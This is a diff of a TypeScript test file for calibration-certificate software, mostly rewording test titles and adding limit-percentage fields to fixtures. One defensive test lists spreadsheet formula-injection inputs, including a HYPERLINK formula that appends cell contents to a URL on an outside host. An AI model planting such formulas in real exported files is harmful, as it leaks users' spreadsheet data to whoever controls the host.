@@ -37,7 +37,7 @@ function standard(fields: { [name: string]: Json }): RecordState {
 const range = { low: "-1", high: "20", unit: "bar", mode: "gauge", of_span_percent: "0.05", k: "2" };
 const point = (applied: string, error = "0", expanded = "0.004") => ({ applied, error, expanded, k: "2" });
 
-test("a range is read with a comma or a point, what does not fit is named", () => {
+test("a range is read with a comma or a point, and what does not fit is named", () => {
   const typed = rangeForm({ ...range, points: [point("0")] });
   assert.deepEqual(readRange(typed), { range: { ...range, points: [point("0")] } });
   assert.deepEqual(readRange({ ...typed, low: "\u22121,0" }), {
@@ -71,7 +71,7 @@ test("points of a certificate must be whole; empty lines fall away", () => {
   }
 });
 
-test("what the module refuses of a point is named by its cell", () => {
+test("a refusal about a point names its cell", () => {
   const { unit, mode: _, ...specified } = range;
   const field = (points: Json[]) => {
     try {
@@ -89,7 +89,7 @@ test("what the module refuses of a point is named by its cell", () => {
   assert.equal(cellOf("unit", "is no unit", [0]), undefined);
 });
 
-test("a newer certificate comes in force, an older one is only kept", () => {
+test("a newer certificate comes into force, an older one is only stored", () => {
   const s = standard({
     ranges: [{ ...range, low: "0", high: "2" }, range],
     calibrated: "2026-02-01",
@@ -139,7 +139,7 @@ const use = (run: string, known: Json, more: Partial<Use> = {}): Use => ({
   ...more,
 });
 
-test("runs are asked together when they knew the same of the standard, in pieces", async () => {
+test("runs with the same knowledge of the standard are asked about together, in pieces", async () => {
   const other = { ...range, of_span_percent: "0.1" };
   const uses = [use("1", range), use("2", other), use("3", range), use("", range, { unread: "no", standard: null })];
   const ask = (name: "uses", doc: unknown) => Promise.resolve(calculate(name, doc));
@@ -164,7 +164,7 @@ test("runs are asked together when they knew the same of the standard, in pieces
   );
 });
 
-test("what changes stands first, and a fault is told", () => {
+test("changed results come first, and a fault is reported", () => {
   const uses = new Map([use("1", range), use("2", range, { tag: "=1+1" }), use("3", range)].map((u) => [u.run, u]));
   const all = sorted(
     outcomesOf(
@@ -172,8 +172,8 @@ test("what changes stands first, and a fault is told", () => {
         sheets: [
           {
             id: "1",
-            before: { verdict: "pass", worst_fraction: 0.5 },
-            after: { verdict: "pass", worst_fraction: 0.6 },
+            before: { verdict: "pass", worst_fraction: 0.5, of_limit: "50" },
+            after: { verdict: "pass", worst_fraction: 0.6, of_limit: "60" },
             changed: false,
             readings: [],
           },
@@ -210,7 +210,7 @@ test("what cannot be calculated is named without the program's own fields", () =
   assert.equal(fault[0]?.fault, "is missing", "no names of the program's own fields");
 });
 
-test("no text of a table is a formula to a spreadsheet", () => {
+test("no spreadsheet takes a text of a table for a formula", () => {
   const bad = [
     '=HYPERLINK("http://e/"&A1,"PI-1")',
     "@SUM(1,2)",
@@ -229,7 +229,7 @@ test("no text of a table is a formula to a spreadsheet", () => {
   for (const line of lines) assert.match(line, /^"?'/);
   const odd = notCalculated(use("9", range, { tag: "PI-1" }), 'no, "none"');
   assert.ok(
-    csvOf([{ ...odd, before: { verdict: "pass", worst: -0.25 } }]).includes(",-0.25,"),
+    csvOf([{ ...odd, before: { verdict: "pass", worst: -0.25, ofLimit: "25" } }]).includes(",-0.25,"),
     "a number stays a number",
   );
 });
@@ -250,7 +250,7 @@ const ready: { [name: string]: Json } = {
   reference_temperature_c: "20",
 };
 
-test("a method goes through the form unchanged, what the form does not know too", () => {
+test("a method goes through the form unchanged, including what the form does not know", () => {
   assert.deepEqual(definitionOf(formOf(ready)), { definition: ready });
 });
 
@@ -280,7 +280,7 @@ test("any count and waits go through the form", () => {
   );
 });
 
-test("a method that cannot be read is refused by its field", () => {
+test("an unreadable method is refused at its field", () => {
   for (const [change, field] of [
     [{ by: "count", count: "five" }, "count"],
     [{ by: "values", values: "" }, "values"],
@@ -300,7 +300,7 @@ test("a method that cannot be read is refused by its field", () => {
   });
 });
 
-test("the rule is asked up to a share of the limit and replies in stretches", async () => {
+test("the rule is asked up to a multiple of the limit and replies in ranges", async () => {
   const asked = askOf(formOf(ready), 4, 1.6);
   assert.deepEqual(asked, {
     value: "0",
@@ -318,7 +318,7 @@ test("the rule is asked up to a share of the limit and replies in stretches", as
     stretches.map((s) => s.verdict),
     ["pass", "fail"],
   );
-  assert.ok(Math.abs(border - 0.825) < 1e-9, `1 - 0.7 * 0.25, not ${border}`); // worked by hand
+  assert.ok(Math.abs(border - 0.825) < 1e-9, `1 - 0.7 * 0.25, not ${border}`); // calculated by hand
   assert.equal(course?.at(-1)?.value, 1.6);
 });
 
